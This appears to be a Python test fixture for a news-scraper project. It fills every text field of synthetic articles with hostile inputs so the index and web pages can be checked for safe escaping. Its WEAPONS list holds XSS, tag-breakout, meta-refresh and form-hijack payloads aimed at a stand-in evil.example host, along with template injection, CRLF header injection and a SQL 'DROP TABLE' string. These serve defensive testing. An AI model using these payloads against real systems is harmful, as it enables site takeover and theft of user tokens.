"""Two hundred articles whose every text wants to be markup, script, style, an address, a header or a template."""

from __future__ import annotations

import random
from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING

from scraper.core.article import Block, Extraction, Image, Link
from scraper.core.article_parts import Cut, Embed, Suspect
from scraper.storage.file_store import FileStore
from scraper.web.index import build_index
from tests.web.made_crawl import LAST, article

if TYPE_CHECKING:
    from pathlib import Path

    from scraper.core.article import Article

WEAPONS = [
    "<script>window.owned=1;document.title='owned'</script>",
    "</title><script>window.owned=1</script>",
    "</style><img src=x onerror=window.owned=1>",
    '"><svg onload=window.owned=1>',
    "' onmouseover='window.owned=1' autofocus onfocus='window.owned=1' x='",
    "</textarea><iframe src=http://evil.example/></iframe>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<base href=http://evil.example/><form action=/steal><input name=token>",
    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/y.css';</style>",
    "javascript:window.owned=1//\nhttps://x",
    "data:text/html,<script>parent.owned=1</script>",
    "//evil.example/x",
    "{{ 7*7 }}{% for x in y %}{{ config }}{% endfor %}${7*7}#{7*7}",
    "&#60;script&#62;window.owned=1&#60;/script&#62;&lt;b&gt;",
    "-->\n<!--<script>window.owned=1</script>\n]]><![CDATA[",
    "\u202e\u2066terbalik\u2069\u200b\ufeff\xad\u2028\u2029",
    "\x02tanda\x03 \x02\x02\x03 \x01\x1f\x7f",
    "<p><table><tr><td>" * 40,
    "panjangsekali" * 300,
    "\r\nSet-Cookie: owned=1\r\n\r\n<script>window.owned=1</script>",
    "'; DROP TABLE articles; -- \" OR 1=1 NEAR(a b) * ^",
    "<math><mtext><style><img src=x onerror=window.owned=1></style>",
]


def hostile_article(dice: random.Random, number: int) -> Article:
    """An article with weapons in every field that holds free text."""

    def weapon() -> str:
        return dice.choice(WEAPONS)

    paragraphs = [weapon() for _ in range(dice.randint(2, 5))]
    made = article(dice, number, LAST - timedelta(minutes=number % 1000), ["Harga beras naik."])
    return replace(
        made,
        title=weapon(), subtitle=weapon(), description=weapon(), section=weapon(), subsection=weapon(),
        authors=[weapon(), weapon()], editors=[weapon()], agencies=[weapon()], dateline=weapon(), language=weapon(),
        tags=[weapon() for _ in range(3)], url=weapon(), canonical_url=weapon(), text="\n\n".join(paragraphs),
        blocks=[Block(dice.choice(["paragraph", "heading", "quote", "list_item"]), text) for text in paragraphs],
        images=[Image(weapon(), weapon(), weapon())], embeds=[Embed("video", weapon(), weapon(), 0)],
        related=[Link(weapon(), weapon())], removed=[Cut(weapon(), weapon(), 0, -1), Cut("ad-block", weapon(), 1, 0)],
        suspect=[Suspect(weapon(), weapon(), 0, 0)], extraction=Extraction("found", weapon(), weapon()),
        fetched_at=weapon(), date_modified=weapon(), content_hash=weapon(),
    )  # fmt: skip


def write_hostile(folder: Path, count: int, seed: int = 21) -> list[Article]:
    """Write a crawl of hostile articles with its index."""
    dice = random.Random(seed)
    made = [hostile_article(dice, 2_000_000 + index) for index in range(count)]
    store = FileStore(folder, durable=False)
    (folder / "_state").mkdir()
    for one in made:
        store.replace(one)
    build_index(folder)
    return made
